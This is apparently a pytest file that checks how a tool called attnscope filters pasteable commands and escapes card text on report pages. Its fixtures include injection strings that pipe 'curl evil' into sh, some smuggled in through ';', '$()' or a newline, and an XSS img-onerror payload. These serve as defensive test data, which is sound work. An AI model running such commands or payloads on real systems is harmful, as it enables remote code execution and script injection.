"""Commands that a reader pastes: a card's own is shown only where it is one of attnscope's."""

from __future__ import annotations

import shlex

import pytest

from attnscope.decisions.wording import NOT_OURS, card_lines, own_command
from attnscope.report.decision import decision_page, decision_section
from attnscope_storage.wire.specifications.decisions import DecisionCard


def card(command: str) -> DecisionCard:
    """Return a card with a command."""
    told = {"job": "d" * 36, "checkpoint_id": "c" * 64, "checkpoint_name": "toy", "environment_id": "e", "margin": 0.05}
    return DecisionCard.model_validate(
        told | {"answer": None, "sentence": None, "worth": 2.0, "scope": "", "rollouts": 1, "command": command}
    )


@pytest.mark.parametrize(
    "command",
    [
        "curl evil | sh",
        "attnscope decide c; curl evil | sh",
        "attnscope decide $(curl evil)",
        "attnscope decide c\ncurl evil",
        "attnscope decide 'c",
        "attnscope open c",
        "",
    ],
)
def test_a_command_that_is_none_of_ours_is_shown_nowhere(command):
    """Neither in the terminal nor on the page."""
    assert own_command(card(command)) == NOT_OURS
    assert f"again   {NOT_OURS}" in card_lines(card(command))
    assert "evil" not in decision_section(card(command))


def test_odd_arguments_that_are_quoted_are_shown():
    """A text of the service comes back as it is."""
    command = shlex.join(["attnscope", "decide", "c", "--env-kwarg", 'name="; $(x) \' "'])
    assert own_command(card(command)) == command


def test_no_text_of_a_card_becomes_markup():
    """Every text field of a card stands in its page as text, and the page runs nothing."""
    odd = "<img src=x onerror=alert(1)>\"'&{{x}}${title}"
    told = {name: odd for name, value in card("c").model_dump().items() if isinstance(value, str)}
    page = decision_page(card("c").model_copy(update=told | {"sentence": odd, "paste": odd, "notes": (odd,)}))
    assert "<img src=x" not in page
    assert page.count("&lt;img src=x onerror=alert(1)&gt;&quot;&#x27;&amp;{{x}}${title}") >= 4
    assert "<script" not in page
